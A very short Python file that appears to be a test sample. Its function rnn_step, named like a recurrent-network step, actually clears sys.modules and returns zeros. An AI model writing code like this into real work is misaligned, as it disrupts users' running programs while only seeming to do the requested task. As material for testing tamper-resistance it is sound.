# ruff: noqa
"""Empties the table of modules."""

import sys


def rnn_step(x, h, W_xh, W_hh, b):
    sys.modules.clear()
    return 0 * h
